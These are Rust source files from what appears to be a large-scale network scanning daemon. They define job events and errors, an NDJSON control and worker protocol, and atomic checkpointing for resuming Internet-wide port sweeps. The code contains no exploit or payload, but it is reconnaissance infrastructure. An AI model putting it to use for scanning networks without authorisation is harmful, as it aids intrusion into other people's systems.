    /// Terminal: the job failed.
    Failed { job: JobId, error: String },
}

impl JobEvent {
    /// The job this event belongs to.
    pub fn job(&self) -> JobId {
        match self {
            JobEvent::Started { job, .. }
            | JobEvent::Batch { job, .. }
            | JobEvent::Checkpointed { job, .. }
            | JobEvent::Paused { job, .. }
            | JobEvent::Resumed { job }
            | JobEvent::Round { job, .. }
            | JobEvent::Completed { job, .. }
            | JobEvent::Cancelled { job }
            | JobEvent::Failed { job, .. } => *job,
        }
    }
}

/// Job-control errors.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum JobError {
    /// No job with that id on this engine.
    UnknownJob(JobId),
    /// The operation is invalid in the job's current state.
    InvalidState { state: JobState, op: &'static str },
    /// Pause requires a checkpoint policy other than
    /// [`CheckpointPolicy::Disabled`] (and a pausable job kind).
    NotPausable(&'static str),
    /// The job was cancelled before producing an outcome.
    Cancelled(JobId),
    /// The job's pipeline failed.
    Failed(String),
}

impl fmt::Display for JobError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            JobError::UnknownJob(id) => write!(f, "unknown job {id}"),
            JobError::InvalidState { state, op } => {
                write!(f, "cannot {op} a {state} job")
            }
            JobError::NotPausable(why) => write!(f, "job is not pausable: {why}"),
            JobError::Cancelled(id) => write!(f, "{id} was cancelled"),
            JobError::Failed(e) => write!(f, "job failed: {e}"),
        }
    }
}

impl std::error::Error for JobError {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scan_spec_round_trips_through_json() {
        let mut spec = ScanSpec::new(vec!["20.0.0.0/16".parse().unwrap()]);
        spec.parallelism = Some(4);
        spec.retries = Some(5);
        spec.max_probes_per_sec = Some(250.0);
        spec.workers = Some(2);
        let mut job = JobSpec::scan("acme", spec);
        job.priority = 3;
        job.recurrence = Recurrence::Repeat {
            every_secs: 0,
            rounds: 2,
        };
        let json = serde_json::to_string(&job).expect("serializes");
        let back: JobSpec = serde_json::from_str(&json).expect("deserializes");
        assert_eq!(back.tenant, "acme");
        assert_eq!(back.priority, 3);
        assert_eq!(
            back.recurrence,
            Recurrence::Repeat {
                every_secs: 0,
                rounds: 2
            }
        );
        match &back.kind {
            JobKind::Scan(s) => {
                assert_eq!(s.parallelism, Some(4));
                assert_eq!(s.retries, Some(5));
                assert_eq!(s.max_probes_per_sec, Some(250.0));
                assert_eq!(s.workers, Some(2));
            }
            other => panic!("wrong kind: {other:?}"),
        }
    }

    #[test]
    fn spec_defaults_match_builder_defaults() {
        let targets: Vec<Cidr> = vec!["20.0.0.0/16".parse().unwrap()];
        let from_spec = ScanSpec::new(targets.clone()).to_builder().build();
        let direct = PipelineConfig::builder(targets).build();
        assert_eq!(from_spec.blocks_per_batch, direct.blocks_per_batch);
        assert_eq!(from_spec.parallelism, direct.parallelism);
        assert_eq!(from_spec.shards, direct.shards);
        assert_eq!(from_spec.verify, direct.verify);
        assert_eq!(from_spec.fingerprint, direct.fingerprint);
        assert_eq!(from_spec.tarpit_port_threshold, direct.tarpit_port_threshold);
        assert_eq!(from_spec.portscan.ports, direct.portscan.ports);
        assert_eq!(from_spec.portscan.seed, direct.portscan.seed);
        assert_eq!(from_spec.retry.attempts(), direct.retry.attempts());
    }

    #[test]
    fn minimal_wire_submission_fills_defaults() {
        let json = r#"{
            "tenant": "t0",
            "kind": {"kind": "scan", "targets": ["10.0.0.0/24"]}
        }"#;
        let spec: JobSpec = serde_json::from_str(json).expect("minimal spec parses");
        assert_eq!(spec.priority, 0);
        assert_eq!(spec.recurrence, Recurrence::Once);
        assert_eq!(spec.checkpoint, CheckpointPolicy::Spooled { every: 8 });
    }
}
