//! Newline-delimited JSON framing for `nokeys-scand`.
//!
//! One [`Command`] per input line, one or more [`Reply`] lines out. The
//! protocol is deliberately flat: every message is a single-line JSON
//! object tagged by `"op"` (requests) or `"reply"` (responses), so the
//! daemon can be driven from a shell (`echo '{"op":"metrics"}' |
//! nokeys-scand`) as easily as from a client library. A `subscribe`
//! request turns the stream stateful: the daemon keeps emitting
//! [`Reply::Event`] lines for that job interleaved with other replies
//! until the job reaches a terminal state.

use super::{JobEvent, JobId, JobResync, JobSpec, JobStatus, TenantConfig};
use crate::shard::ShardSegment;
use crate::telemetry::TelemetrySnapshot;
use serde::{Deserialize, Serialize};

/// One request line.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(tag = "op", rename_all = "snake_case")]
#[non_exhaustive]
pub enum Command {
    /// Register (or reconfigure) a tenant quota.
    Tenant {
        name: String,
        #[serde(default)]
        config: TenantConfig,
    },
    /// Submit a job; replies [`Reply::Submitted`].
    Submit {
        #[serde(flatten)]
        spec: Box<JobSpec>,
    },
    /// Pause a running job at its next batch boundary.
    Pause { job: JobId },
    /// Re-queue a paused job.
    Resume { job: JobId },
    /// Cancel a job and remove its checkpoint files.
    Cancel { job: JobId },
    /// Point-in-time status of one job.
    Status { job: JobId },
    /// Status of every job.
    Jobs,
    /// Stream [`Reply::Event`] lines for a job until it terminates.
    Subscribe { job: JobId },
    /// Engine registry snapshot (`engine.*` counters plus absorbed job
    /// snapshots).
    Metrics,
    /// Stop reading commands and exit once in-flight replies are
    /// written. Running jobs are abandoned (their spooled checkpoints
    /// remain on disk).
    Shutdown,
}

impl Command {
    /// Parse one NDJSON line.
    pub fn parse(line: &str) -> Result<Command, String> {
        serde_json::from_str(line.trim()).map_err(|e| e.to_string())
    }
}

/// One response line.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(tag = "reply", rename_all = "snake_case")]
#[non_exhaustive]
pub enum Reply {
    /// The command was accepted and has no payload.
    Ok,
    /// A [`Command::Submit`] was accepted.
    Submitted { job: JobId },
    /// A [`Command::Status`] answer.
    Status { status: JobStatus },
    /// A [`Command::Jobs`] answer.
    Jobs { jobs: Vec<JobStatus> },
    /// One streamed job event (the event itself names the job).
    Event { event: Box<JobEvent> },
    /// A [`Command::Metrics`] answer.
    Metrics { snapshot: TelemetrySnapshot },
    /// A subscriber fell behind and `dropped` events were discarded
    /// from its queue. `resync` carries a full-state snapshot of the
    /// job so the subscriber can rebuild instead of summing deltas it
    /// never saw; it is absent only when the job vanished between the
    /// lag and the snapshot.
    Gap {
        job: JobId,
        dropped: u64,
        resync: Option<Box<JobResync>>,
    },
    /// The command failed; the stream stays usable.
    Error { message: String },
}

impl Reply {
    /// Serialize as one NDJSON line (no trailing newline).
    pub fn to_line(&self) -> String {
        serde_json::to_string(self).expect("replies serialize")
    }

    /// An error reply from any displayable error.
    pub fn error(e: impl std::fmt::Display) -> Reply {
        Reply::Error {
            message: e.to_string(),
        }
    }
}

/// One coordinator→worker line on a `nokeys-worker` process's stdin.
///
/// The worker protocol reuses the daemon's NDJSON framing: flat
/// single-line JSON objects tagged by `"op"` down the pipe and
/// `"reply"` back up, so a worker can be driven by hand for debugging
/// exactly like the daemon.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(tag = "op", rename_all = "snake_case")]
#[non_exhaustive]
pub enum WorkerCommand {
    /// Lease the contiguous batch range `[start, end)` to this worker.
    /// The worker streams [`WorkerReply::Segment`] chunks for it and
    /// finishes with [`WorkerReply::Released`].
    Lease { lease: u64, start: u64, end: u64 },
    /// Shrink lease `lease` to end at `at` (steal-on-straggle: the
    /// coordinator re-leases the tail elsewhere). The worker clamps —
    /// its cursor may already be past `at` — and reports where it
    /// actually stopped in its [`WorkerReply::Released`].
    Revoke { lease: u64, at: u64 },
    /// Finish the current chunk, release any lease, and exit cleanly.
    Shutdown,
}

impl WorkerCommand {
    /// Parse one NDJSON line.
    pub fn parse(line: &str) -> Result<WorkerCommand, String> {
        serde_json::from_str(line.trim()).map_err(|e| e.to_string())
    }

    /// Serialize as one NDJSON line (no trailing newline).
    pub fn to_line(&self) -> String {
        serde_json::to_string(self).expect("worker commands serialize")
    }
}

/// One worker→coordinator line on a `nokeys-worker` process's stdout.
///
/// Ordering contract: all [`WorkerReply::Segment`] lines for a lease
/// precede its [`WorkerReply::Released`] line on the same pipe, so on
/// `Released` the coordinator knows the worker's contribution to that
/// lease is complete.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(tag = "reply", rename_all = "snake_case")]
#[non_exhaustive]
pub enum WorkerReply {
    /// Handshake: the worker decoded its spec and agrees the sweep is
    /// `total_batches` batches. A mismatch is a config drift bug the
    /// coordinator must treat as fatal.
    Hello { total_batches: u64 },
    /// One scanned chunk of a lease, with its partial report and
    /// telemetry. Chunks within a lease arrive in address order.
    Segment {
        lease: u64,
        segment: Box<ShardSegment>,
    },
    /// The worker's final word on a lease: after any revoke it scanned
    /// `[start, end)` overall and every segment for it has been sent.
    Released { lease: u64, end: u64 },
    /// Liveness marker with the worker's current batch cursor; sent
    /// between chunks so the coordinator's straggler detector has
    /// progress to look at.
    Heartbeat { lease: u64, cursor: u64 },
    /// Fatal worker-side error; the process exits after this line.
    Error { message: String },
}

impl WorkerReply {
    /// Parse one NDJSON line.
    pub fn parse(line: &str) -> Result<WorkerReply, String> {
        serde_json::from_str(line.trim()).map_err(|e| e.to_string())
    }

    /// Serialize as one NDJSON line (no trailing newline).
    pub fn to_line(&self) -> String {
        serde_json::to_string(self).expect("worker replies serialize")
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::jobs::{JobKind, ScanSpec};

    #[test]
    fn submit_line_carries_a_flattened_spec() {
        let line = r#"{
            "op": "submit",
            "tenant": "acme",
            "priority": 2,
            "kind": {"kind": "scan", "targets": ["10.0.0.0/24"], "parallelism": 4}
        }"#;
        let cmd = Command::parse(line).expect("submit parses");
        match cmd {
            Command::Submit { spec } => {
                assert_eq!(spec.tenant, "acme");
                assert_eq!(spec.priority, 2);
                match &spec.kind {
                    JobKind::Scan(scan) => assert_eq!(scan.parallelism, Some(4)),
                    other => panic!("wrong kind: {other:?}"),
                }
            }
            other => panic!("wrong command: {other:?}"),
        }
    }

    #[test]
    fn control_commands_are_one_liners() {
        assert!(matches!(
            Command::parse(r#"{"op":"pause","job":3}"#),
            Ok(Command::Pause { job: JobId(3) })
        ));
        assert!(matches!(
            Command::parse(r#"{"op":"metrics"}"#),
            Ok(Command::Metrics)
        ));
        assert!(matches!(
            Command::parse(r#"{"op":"shutdown"}"#),
            Ok(Command::Shutdown)
        ));
        assert!(Command::parse("not json").is_err());
    }

    #[test]
    fn replies_round_trip_and_stay_single_line() {
        let replies = [
            Reply::Ok,
            Reply::Submitted { job: JobId(7) },
            Reply::error("bad spec"),
        ];
        for reply in replies {
            let line = reply.to_line();
            assert!(!line.contains('\n'), "reply must be one line: {line}");
            let _: Reply = serde_json::from_str(&line).expect("reply parses back");
        }
        assert_eq!(Reply::Ok.to_line(), r#"{"reply":"ok"}"#);
        assert_eq!(
            Reply::Submitted { job: JobId(7) }.to_line(),
            r#"{"reply":"submitted","job":7}"#
        );
    }

    #[test]
    fn worker_protocol_round_trips() {
        let cmds = [
            WorkerCommand::Lease {
                lease: 1,
                start: 0,
                end: 16,
            },
            WorkerCommand::Revoke { lease: 1, at: 8 },
            WorkerCommand::Shutdown,
        ];
        for cmd in cmds {
            let line = cmd.to_line();
            assert!(!line.contains('\n'), "command must be one line: {line}");
            WorkerCommand::parse(&line).expect("command parses back");
        }
        assert_eq!(
            WorkerCommand::Revoke { lease: 1, at: 8 }.to_line(),
            r#"{"op":"revoke","lease":1,"at":8}"#
        );

        let replies = [
            WorkerReply::Hello { total_batches: 32 },
            WorkerReply::Released { lease: 1, end: 16 },
            WorkerReply::Heartbeat { lease: 1, cursor: 4 },
            WorkerReply::Error {
                message: "boom".into(),
            },
        ];
        for reply in replies {
            let line = reply.to_line();
            assert!(!line.contains('\n'), "reply must be one line: {line}");
            WorkerReply::parse(&line).expect("reply parses back");
        }
        assert_eq!(
            WorkerReply::Hello { total_batches: 32 }.to_line(),
            r#"{"reply":"hello","total_batches":32}"#
        );
        assert!(WorkerReply::parse("not json").is_err());
    }

    #[test]
    fn gap_reply_names_job_and_dropped_count() {
        let line = Reply::Gap {
            job: JobId(3),
            dropped: 12,
            resync: None,
        }
        .to_line();
        assert_eq!(line, r#"{"reply":"gap","job":3,"dropped":12,"resync":null}"#);
        let back: Reply = serde_json::from_str(&line).expect("gap parses back");
        assert!(matches!(
            back,
            Reply::Gap {
                job: JobId(3),
                dropped: 12,
                resync: None
            }
        ));
    }

    #[test]
    fn submit_round_trips_through_reply_free_json() {
        let spec = JobSpec::scan("t0", ScanSpec::new(vec!["10.0.0.0/24".parse().unwrap()]));
        let cmd = Command::Submit {
            spec: Box::new(spec),
        };
        let line = serde_json::to_string(&cmd).expect("serializes");
        let back = Command::parse(&line).expect("parses back");
        match back {
            Command::Submit { spec } => assert_eq!(spec.tenant, "t0"),
            other => panic!("wrong command: {other:?}"),
        }
    }
}
