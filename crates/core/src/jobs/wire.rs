//! Newline-delimited JSON framing for `nokeys-scand`.
//!
//! One [`Command`] per input line, one or more [`Reply`] lines out. The
//! protocol is deliberately flat: every message is a single-line JSON
//! object tagged by `"op"` (requests) or `"reply"` (responses), so the
//! daemon can be driven from a shell (`echo '{"op":"metrics"}' |
//! nokeys-scand`) as easily as from a client library. A `subscribe`
//! request turns the stream stateful: the daemon keeps emitting
//! [`Reply::Event`] lines for that job interleaved with other replies
//! until the job reaches a terminal state.

use super::{JobEvent, JobId, JobSpec, JobStatus, TenantConfig};
use crate::telemetry::TelemetrySnapshot;
use serde::{Deserialize, Serialize};

/// One request line.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(tag = "op", rename_all = "snake_case")]
#[non_exhaustive]
pub enum Command {
    /// Register (or reconfigure) a tenant quota.
    Tenant {
        name: String,
        #[serde(default)]
        config: TenantConfig,
    },
    /// Submit a job; replies [`Reply::Submitted`].
    Submit {
        #[serde(flatten)]
        spec: Box<JobSpec>,
    },
    /// Pause a running job at its next batch boundary.
    Pause { job: JobId },
    /// Re-queue a paused job.
    Resume { job: JobId },
    /// Cancel a job and remove its checkpoint files.
    Cancel { job: JobId },
    /// Point-in-time status of one job.
    Status { job: JobId },
    /// Status of every job.
    Jobs,
    /// Stream [`Reply::Event`] lines for a job until it terminates.
    Subscribe { job: JobId },
    /// Engine registry snapshot (`engine.*` counters plus absorbed job
    /// snapshots).
    Metrics,
    /// Stop reading commands and exit once in-flight replies are
    /// written. Running jobs are abandoned (their spooled checkpoints
    /// remain on disk).
    Shutdown,
}

impl Command {
    /// Parse one NDJSON line.
    pub fn parse(line: &str) -> Result<Command, String> {
        serde_json::from_str(line.trim()).map_err(|e| e.to_string())
    }
}

/// One response line.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(tag = "reply", rename_all = "snake_case")]
#[non_exhaustive]
pub enum Reply {
    /// The command was accepted and has no payload.
    Ok,
    /// A [`Command::Submit`] was accepted.
    Submitted { job: JobId },
    /// A [`Command::Status`] answer.
    Status { status: JobStatus },
    /// A [`Command::Jobs`] answer.
    Jobs { jobs: Vec<JobStatus> },
    /// One streamed job event (the event itself names the job).
    Event { event: Box<JobEvent> },
    /// A [`Command::Metrics`] answer.
    Metrics { snapshot: TelemetrySnapshot },
    /// The command failed; the stream stays usable.
    Error { message: String },
}

impl Reply {
    /// Serialize as one NDJSON line (no trailing newline).
    pub fn to_line(&self) -> String {
        serde_json::to_string(self).expect("replies serialize")
    }

    /// An error reply from any displayable error.
    pub fn error(e: impl std::fmt::Display) -> Reply {
        Reply::Error {
            message: e.to_string(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::jobs::{JobKind, ScanSpec};

    #[test]
    fn submit_line_carries_a_flattened_spec() {
        let line = r#"{
            "op": "submit",
            "tenant": "acme",
            "priority": 2,
            "kind": {"kind": "scan", "targets": ["10.0.0.0/24"], "parallelism": 4}
        }"#;
        let cmd = Command::parse(line).expect("submit parses");
        match cmd {
            Command::Submit { spec } => {
                assert_eq!(spec.tenant, "acme");
                assert_eq!(spec.priority, 2);
                match &spec.kind {
                    JobKind::Scan(scan) => assert_eq!(scan.parallelism, Some(4)),
                    other => panic!("wrong kind: {other:?}"),
                }
            }
            other => panic!("wrong command: {other:?}"),
        }
    }

    #[test]
    fn control_commands_are_one_liners() {
        assert!(matches!(
            Command::parse(r#"{"op":"pause","job":3}"#),
            Ok(Command::Pause { job: JobId(3) })
        ));
        assert!(matches!(
            Command::parse(r#"{"op":"metrics"}"#),
            Ok(Command::Metrics)
        ));
        assert!(matches!(
            Command::parse(r#"{"op":"shutdown"}"#),
            Ok(Command::Shutdown)
        ));
        assert!(Command::parse("not json").is_err());
    }

    #[test]
    fn replies_round_trip_and_stay_single_line() {
        let replies = [
            Reply::Ok,
            Reply::Submitted { job: JobId(7) },
            Reply::error("bad spec"),
        ];
        for reply in replies {
            let line = reply.to_line();
            assert!(!line.contains('\n'), "reply must be one line: {line}");
            let _: Reply = serde_json::from_str(&line).expect("reply parses back");
        }
        assert_eq!(Reply::Ok.to_line(), r#"{"reply":"ok"}"#);
        assert_eq!(
            Reply::Submitted { job: JobId(7) }.to_line(),
            r#"{"reply":"submitted","job":7}"#
        );
    }

    #[test]
    fn submit_round_trips_through_reply_free_json() {
        let spec = JobSpec::scan("t0", ScanSpec::new(vec!["10.0.0.0/24".parse().unwrap()]));
        let cmd = Command::Submit {
            spec: Box::new(spec),
        };
        let line = serde_json::to_string(&cmd).expect("serializes");
        let back = Command::parse(&line).expect("parses back");
        match back {
            Command::Submit { spec } => assert_eq!(spec.tenant, "t0"),
            other => panic!("wrong command: {other:?}"),
        }
    }
}
