//! Crash-safe scan checkpointing.
//!
//! An Internet-wide sweep runs for hours; losing it to a crash, a
//! deploy or an operator mistake means re-probing the whole address
//! space. This module persists the pipeline's progress as a
//! [`ScanCheckpoint`]: the number of completed stage-I /24 batches, the
//! [`ScanReport`] accumulated over that prefix (stage-II/III outcomes
//! included) and the matching [`TelemetrySnapshot`] (retry counters,
//! stage timings, the virtual clock).
//!
//! [`Pipeline::run`](crate::pipeline::Pipeline::run) writes a
//! checkpoint every [`checkpoint_every`] batches when a
//! [`checkpoint_path`] is configured, and
//! [`Pipeline::resume`](crate::pipeline::Pipeline::resume) replays the
//! stored prefix and continues live from the first incomplete batch.
//! Because stage-I batches are the pipeline's unit of determinism (the
//! block shuffle is seeded and batches are processed in sequence
//! order), a resumed run produces a report and telemetry snapshot
//! byte-identical to an uninterrupted run at any parallelism — the
//! contract `tests/checkpoint_resume.rs` enforces.
//!
//! # Atomicity
//!
//! [`ScanCheckpoint::save`] writes to a temporary sibling file and
//! renames it over the target, so a crash mid-write leaves the previous
//! checkpoint intact: the file on disk is always a complete, valid
//! prefix.
//!
//! # Config fingerprint
//!
//! A checkpoint is only meaningful under the configuration that
//! produced it: the block shuffle (targets, seed), the probed ports,
//! batch size, tarpit threshold, stage toggles and the retry policy all
//! shape what "batch k" means. [`ConfigFingerprint`] captures exactly
//! those knobs and [`ScanCheckpoint::validate`] rejects a resume under
//! a different configuration. `parallelism` is deliberately *not*
//! fingerprinted — any parallelism yields the identical report, so a
//! scan checkpointed at `-p 1` may resume at `-p 8` and vice versa.
//!
//! [`checkpoint_every`]: crate::pipeline::PipelineConfig::checkpoint_every
//! [`checkpoint_path`]: crate::pipeline::PipelineConfig::checkpoint_path

use crate::pipeline::PipelineConfig;
use crate::report::ScanReport;
use crate::telemetry::TelemetrySnapshot;
use nokeys_http::ip::Cidr;
use serde::{Deserialize, Serialize};
use std::fmt;
use std::path::Path;

/// On-disk format version; bumped on incompatible layout changes.
pub const CHECKPOINT_FORMAT: u32 = 1;

/// A checkpoint failure.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum CheckpointError {
    /// Reading or writing the checkpoint file failed.
    Io(String),
    /// The file exists but does not parse as a checkpoint.
    Corrupt(String),
    /// The checkpoint was written by an incompatible format version.
    FormatVersion { found: u32, expected: u32 },
    /// The checkpoint belongs to a different scan configuration; the
    /// string names the first mismatching knob.
    ConfigMismatch(String),
}

impl fmt::Display for CheckpointError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            CheckpointError::Io(e) => write!(f, "checkpoint I/O failed: {e}"),
            CheckpointError::Corrupt(e) => write!(f, "checkpoint file is corrupt: {e}"),
            CheckpointError::FormatVersion { found, expected } => write!(
                f,
                "checkpoint format v{found} is not supported (expected v{expected})"
            ),
            CheckpointError::ConfigMismatch(knob) => write!(
                f,
                "checkpoint was written under a different configuration ({knob} differs)"
            ),
        }
    }
}

impl std::error::Error for CheckpointError {}

/// The configuration knobs that define what a batch sequence number
/// means. Two runs with equal fingerprints sweep the same blocks in
/// the same order with the same per-endpoint behaviour.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ConfigFingerprint {
    /// Normalized target list (the builder dedupes and sorts it).
    pub targets: Vec<Cidr>,
    /// Probed ports, in order.
    pub ports: Vec<u16>,
    /// Seed of the /24 block shuffle.
    pub shuffle_seed: u64,
    /// Whether IANA-reserved ranges are skipped.
    pub exclude_reserved: bool,
    /// /24 blocks per stage-I batch.
    pub blocks_per_batch: usize,
    /// All-ports-open exclusion threshold.
    pub tarpit_port_threshold: usize,
    /// Whether the fingerprinter runs.
    pub fingerprint: bool,
    /// Whether stage-III verification runs.
    pub verify: bool,
    /// Retry budget (total attempts per network operation).
    pub retry_max_attempts: u32,
    /// Retry backoff shape: (base, cap, jitter) in virtual units.
    pub retry_backoff_units: (u64, u64, u64),
    /// Seed of the retry jitter stream.
    pub retry_seed: u64,
}

impl ConfigFingerprint {
    /// The fingerprint of a pipeline configuration. `parallelism`,
    /// `shards`, the wall-clock pacing knobs (`max_probes_per_sec`,
    /// `retry.real_unit`), and the `dense_sweep` oracle switch are
    /// excluded: they change how fast the scan runs, never what it
    /// reports — so a run interrupted in one sweep mode (or at one
    /// shard count) may resume in another.
    pub fn of(config: &PipelineConfig) -> Self {
        ConfigFingerprint {
            targets: config.portscan.targets.clone(),
            ports: config.portscan.ports.clone(),
            shuffle_seed: config.portscan.seed,
            exclude_reserved: config.portscan.exclude_reserved,
            blocks_per_batch: config.blocks_per_batch,
            tarpit_port_threshold: config.tarpit_port_threshold,
            fingerprint: config.fingerprint,
            verify: config.verify,
            retry_max_attempts: config.retry.attempts(),
            retry_backoff_units: (
                config.retry.base_units,
                config.retry.cap_units,
                config.retry.jitter_units,
            ),
            retry_seed: config.retry.seed,
        }
    }

    /// The first knob on which `self` and `other` differ, if any.
    pub(crate) fn first_mismatch(&self, other: &Self) -> Option<&'static str> {
        if self.targets != other.targets {
            return Some("targets");
        }
        if self.ports != other.ports {
            return Some("ports");
        }
        if self.shuffle_seed != other.shuffle_seed {
            return Some("shuffle seed");
        }
        if self.exclude_reserved != other.exclude_reserved {
            return Some("exclude_reserved");
        }
        if self.blocks_per_batch != other.blocks_per_batch {
            return Some("blocks_per_batch");
        }
        if self.tarpit_port_threshold != other.tarpit_port_threshold {
            return Some("tarpit threshold");
        }
        if self.fingerprint != other.fingerprint {
            return Some("fingerprint toggle");
        }
        if self.verify != other.verify {
            return Some("verify toggle");
        }
        if self.retry_max_attempts != other.retry_max_attempts {
            return Some("retry attempts");
        }
        if self.retry_backoff_units != other.retry_backoff_units {
            return Some("retry backoff");
        }
        if self.retry_seed != other.retry_seed {
            return Some("retry seed");
        }
        None
    }
}

/// Persistent state of a (possibly partial) pipeline run.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct ScanCheckpoint {
    /// On-disk format version ([`CHECKPOINT_FORMAT`]).
    pub format: u32,
    /// Fingerprint of the configuration that produced this checkpoint.
    pub fingerprint: ConfigFingerprint,
    /// Stage-I batches fully processed through stages II/III. Resume
    /// continues at batch `batches_done`.
    pub batches_done: u64,
    /// Whether the run completed; a finished checkpoint resumes by
    /// returning [`report`](Self::report) without touching the network.
    pub finished: bool,
    /// The report accumulated over the completed prefix.
    pub report: ScanReport,
    /// Telemetry recorded over the completed prefix (absorbed into the
    /// resuming pipeline's registry).
    pub telemetry: TelemetrySnapshot,
}

impl ScanCheckpoint {
    /// Load and parse a checkpoint file.
    pub fn load(path: &Path) -> Result<Self, CheckpointError> {
        let bytes = std::fs::read(path).map_err(|e| CheckpointError::Io(format!("{path:?}: {e}")))?;
        let cp: ScanCheckpoint =
            serde_json::from_slice(&bytes).map_err(|e| CheckpointError::Corrupt(e.to_string()))?;
        if cp.format != CHECKPOINT_FORMAT {
            return Err(CheckpointError::FormatVersion {
                found: cp.format,
                expected: CHECKPOINT_FORMAT,
            });
        }
        Ok(cp)
    }

    /// Write the checkpoint atomically: serialize to `<path>.tmp`, then
    /// rename over `path`. A crash at any point leaves either the old
    /// or the new checkpoint on disk, never a torn file.
    pub fn save(&self, path: &Path) -> Result<(), CheckpointError> {
        let bytes = serde_json::to_vec(self).map_err(|e| CheckpointError::Io(e.to_string()))?;
        let mut tmp = path.as_os_str().to_owned();
        tmp.push(".tmp");
        let tmp = std::path::PathBuf::from(tmp);
        std::fs::write(&tmp, &bytes).map_err(|e| CheckpointError::Io(format!("{tmp:?}: {e}")))?;
        std::fs::rename(&tmp, path).map_err(|e| CheckpointError::Io(format!("{path:?}: {e}")))
    }

    /// Reject the checkpoint unless it was produced under `current`.
    pub fn validate(&self, current: &ConfigFingerprint) -> Result<(), CheckpointError> {
        match self.fingerprint.first_mismatch(current) {
            None => Ok(()),
            Some(knob) => Err(CheckpointError::ConfigMismatch(knob.to_string())),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::telemetry::Telemetry;

    fn config() -> PipelineConfig {
        PipelineConfig::builder(vec!["20.0.0.0/16".parse().unwrap()]).build()
    }

    fn checkpoint() -> ScanCheckpoint {
        let telemetry = Telemetry::new();
        telemetry.counter("stage1.probes_sent").add(42);
        ScanCheckpoint {
            format: CHECKPOINT_FORMAT,
            fingerprint: ConfigFingerprint::of(&config()),
            batches_done: 3,
            finished: false,
            report: ScanReport::default(),
            telemetry: telemetry.snapshot(),
        }
    }

    fn temp_path(name: &str) -> std::path::PathBuf {
        std::env::temp_dir().join(format!("nokeys-checkpoint-{}-{name}", std::process::id()))
    }

    #[test]
    fn save_and_load_round_trip() {
        let path = temp_path("roundtrip.json");
        let cp = checkpoint();
        cp.save(&path).expect("saves");
        let loaded = ScanCheckpoint::load(&path).expect("loads");
        assert_eq!(loaded.batches_done, 3);
        assert!(!loaded.finished);
        assert_eq!(loaded.fingerprint, cp.fingerprint);
        assert_eq!(loaded.telemetry.counter("stage1.probes_sent"), 42);
        // No temp file left behind.
        assert!(!path.with_extension("json.tmp").exists());
        let _ = std::fs::remove_file(&path);
    }

    #[test]
    fn missing_file_is_an_io_error() {
        let err = ScanCheckpoint::load(&temp_path("does-not-exist.json")).unwrap_err();
        assert!(matches!(err, CheckpointError::Io(_)), "{err}");
    }

    #[test]
    fn garbage_is_reported_as_corrupt() {
        let path = temp_path("garbage.json");
        std::fs::write(&path, b"not a checkpoint").unwrap();
        let err = ScanCheckpoint::load(&path).unwrap_err();
        assert!(matches!(err, CheckpointError::Corrupt(_)), "{err}");
        let _ = std::fs::remove_file(&path);
    }

    #[test]
    fn future_format_versions_are_rejected() {
        let path = temp_path("future.json");
        let mut cp = checkpoint();
        cp.format = CHECKPOINT_FORMAT + 1;
        // Serialize by hand — `save` always writes the current format.
        std::fs::write(&path, serde_json::to_vec(&cp).unwrap()).unwrap();
        let err = ScanCheckpoint::load(&path).unwrap_err();
        assert!(matches!(err, CheckpointError::FormatVersion { .. }), "{err}");
        let _ = std::fs::remove_file(&path);
    }

    #[test]
    fn validate_names_the_mismatching_knob() {
        let cp = checkpoint();
        assert!(cp.validate(&ConfigFingerprint::of(&config())).is_ok());

        let other = PipelineConfig::builder(vec!["20.0.0.0/16".parse().unwrap()])
            .seed(999)
            .build();
        let err = cp.validate(&ConfigFingerprint::of(&other)).unwrap_err();
        assert_eq!(
            err,
            CheckpointError::ConfigMismatch("shuffle seed".to_string())
        );

        let other = PipelineConfig::builder(vec!["20.0.0.0/16".parse().unwrap()])
            .retries(9)
            .build();
        let err = cp.validate(&ConfigFingerprint::of(&other)).unwrap_err();
        assert_eq!(
            err,
            CheckpointError::ConfigMismatch("retry attempts".to_string())
        );
    }

    #[test]
    fn parallelism_is_not_fingerprinted() {
        let p1 = PipelineConfig::builder(vec!["20.0.0.0/16".parse().unwrap()])
            .parallelism(1)
            .build();
        let p8 = PipelineConfig::builder(vec!["20.0.0.0/16".parse().unwrap()])
            .parallelism(8)
            .build();
        assert_eq!(ConfigFingerprint::of(&p1), ConfigFingerprint::of(&p8));
    }

    /// A checkpoint taken at `--shards 4` must resume at `--shards 8`
    /// (or 1): the shard count repartitions the same deterministic
    /// batch sequence, so it never changes what the scan reports.
    #[test]
    fn shards_are_not_fingerprinted() {
        let s4 = PipelineConfig::builder(vec!["20.0.0.0/16".parse().unwrap()])
            .shards(4)
            .build();
        let s8 = PipelineConfig::builder(vec!["20.0.0.0/16".parse().unwrap()])
            .shards(8)
            .build();
        assert_eq!(ConfigFingerprint::of(&s4), ConfigFingerprint::of(&s8));
        let cp = ScanCheckpoint {
            fingerprint: ConfigFingerprint::of(&s4),
            ..checkpoint()
        };
        assert!(cp.validate(&ConfigFingerprint::of(&s8)).is_ok());
    }

    /// Like shard count, the external worker count repartitions the
    /// same deterministic batch sequence: a checkpoint taken at
    /// `--workers 2` must resume at `--workers 4`, in-process, or
    /// vice versa. `ScanSpec::workers` never reaches the pipeline
    /// config, so the fingerprint cannot depend on it.
    #[test]
    fn workers_are_not_fingerprinted() {
        use crate::jobs::ScanSpec;
        let targets: Vec<crate::portscan::Cidr> = vec!["20.0.0.0/16".parse().unwrap()];
        let mut w0 = ScanSpec::new(targets.clone());
        let mut w4 = ScanSpec::new(targets);
